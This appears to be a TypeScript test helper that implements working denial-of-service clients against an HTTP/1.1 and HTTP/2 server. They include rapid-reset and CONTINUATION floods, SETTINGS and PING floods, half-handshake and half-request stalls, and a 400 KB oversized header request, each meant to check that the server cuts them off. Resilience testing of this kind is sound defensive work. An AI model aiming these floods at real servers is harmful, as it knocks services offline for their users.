import { once } from "node:events";
import { connect as connectTcp, type Socket } from "node:net";
import { connect as connectTls, type TLSSocket } from "node:tls";

/** Where a hostile client goes. */
export interface Victim {
  readonly host: string;
  readonly port: number;
  readonly caPem: string;
  readonly serverName: string;
}

/** One kind of attack on a server of HTTP/1.1 and HTTP/2. Resolves once the server has ended it. */
export type Attack = (victim: Victim) => Promise<void>;

const types = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 } as const;
const endHeaders = 0x4;
const endStreamAndHeaders = 0x5;

function frame(type: number, flags: number, stream: number, payload?: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload?.length ?? 0, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return payload === undefined ? head : Buffer.concat([head, payload]);
}

const preface = Buffer.concat([
  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  frame(types.settings, 0, 0),
]);
/** GET https://a/, by the static table and one literal. */
const get = Buffer.from([0x82, 0x87, 0x84, 0x01, 0x01, 0x61]);
const cancel = Buffer.from([0, 0, 0, 8]);

/** A field `x: aaa…` that enters no table. */
function literal(bytes: number): Buffer {
  const length = bytes - 127;
  const size = [0x7f, (length & 0x7f) | 0x80, ((length >> 7) & 0x7f) | 0x80, length >> 14];
  return Buffer.concat([Buffer.from([0x00, 0x01, 0x78, ...size]), Buffer.alloc(bytes, "a")]);
}

async function open(victim: Victim, protocol: "h2" | "http/1.1"): Promise<TLSSocket> {
  const { host, port, caPem, serverName } = victim;
  const socket = connectTls({
    host,
    port,
    ca: caPem,
    servername: serverName,
    ALPNProtocols: [protocol],
  });
  socket.on("error", () => undefined);
  await once(socket, "secureConnect");
  if (protocol === "h2") socket.write(preface);
  return socket;
}

async function ended(socket: Socket): Promise<void> {
  socket.resume();
  if (socket.closed) return;
  await new Promise((resolve) => socket.once("close", resolve));
}

/** Sends frames on HTTP/2 as fast as the server takes them, until it has had enough. */
function flood(frames: (turn: number) => readonly Buffer[]): Attack {
  return async (victim) => {
    const socket = await open(victim, "h2");
    socket.resume();
    for (let turn = 0; turn < 2000 && !socket.destroyed; turn += 1) {
      const isTaken = socket.write(Buffer.concat(frames(turn)));
      if (isTaken) continue;
      await Promise.race([once(socket, "drain"), ended(socket)]).catch(() => undefined);
    }
    await ended(socket);
  };
}

/** Sends the beginning of something, and never the rest. */
function stall(protocol: "h2" | "http/1.1", bytes: string | Buffer): Attack {
  return async (victim) => {
    const socket = await open(victim, protocol);
    socket.write(bytes);
    await ended(socket);
  };
}

const ten = Array.from({ length: 10 }, (_, index) => index);

/** For tests: what is known against servers of HTTP/2, each ended by the server as broken. */
export const floods: Readonly<Record<string, Attack>> = {
  "streams that are reset as they are opened": flood((turn) =>
    ten.flatMap((index) => {
      const stream = 2 * (10 * turn + index) + 1;
      return [
        frame(types.headers, endStreamAndHeaders, stream, get),
        frame(types.reset, 0, stream, cancel),
      ];
    }),
  ),
  "CONTINUATION without end": flood((turn) => [
    turn === 0
      ? frame(types.headers, 0, 1, get)
      : frame(types.continuation, 0, 1, Buffer.from([0x00, 0x01, 0x78, 0x01, 0x79])),
  ]),
  "empty CONTINUATION without end": flood((turn) => [
    turn === 0 ? frame(types.headers, 0, 1, get) : frame(types.continuation, 0, 1),
  ]),
  "SETTINGS without end": flood(() => ten.map(() => frame(types.settings, 0, 0))),
  "PING without end": flood(() => ten.map(() => frame(types.ping, 0, 0, Buffer.alloc(8)))),
  "empty DATA without end": flood((turn) =>
    turn === 0
      ? [frame(types.headers, endHeaders, 1, Buffer.concat([Buffer.from([0x83]), get.subarray(1)]))]
      : ten.map(() => frame(types.data, 0, 1)),
  ),
  "frames of a stream that was never opened": flood(() => [frame(types.data, 0, 9)]),
};

/** For tests: clients that hold a connection and send nothing, or nearly nothing. */
export const stalls: Readonly<Record<string, Attack>> = {
  "no handshake": async ({ host, port }) => {
    const socket = connectTcp({ host, port });
    socket.on("error", () => undefined);
    await ended(socket);
  },
  "half of a handshake": async ({ host, port }) => {
    const socket = connectTcp({ host, port });
    socket.on("error", () => undefined);
    socket.write(Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01]));
    await ended(socket);
  },
  "no request of HTTP/1.1": stall("http/1.1", ""),
  "half a head of HTTP/1.1": stall("http/1.1", "GET / HTTP/1.1\r\nHost: a\r\nX-A:"),
  "no request of HTTP/2": stall("h2", ""),
  "half a head of HTTP/2": stall("h2", frame(types.headers, 0, 1, get)),
};

/** For tests: a request of HTTP/2 with fields of 400 KB. Resolves once the server has refused it. */
export const oversizedFields: Attack = async (victim) => {
  const socket = await open(victim, "h2");
  let heard = Buffer.alloc(0);
  const refused = Promise.withResolvers<void>();
  socket.on("data", (chunk: Buffer) => {
    heard = Buffer.concat([heard, chunk]);
    for (let at = 0; at + 9 <= heard.length; at += 9 + heard.readUIntBE(at, 3)) {
      if (heard.readUInt8(at + 3) === types.reset) refused.resolve();
    }
  });
  socket.once("close", () => refused.resolve());
  const fields = [get, ...Array.from({ length: 26 }, () => literal(15_900))];
  fields.forEach((fragment, index) => {
    const isLast = index === fields.length - 1;
    const type = index === 0 ? types.headers : types.continuation;
    socket.write(frame(type, (index === 0 ? 1 : 0) | (isLast ? endHeaders : 0), 1, fragment));
  });
  await refused.promise;
  socket.destroy();
};
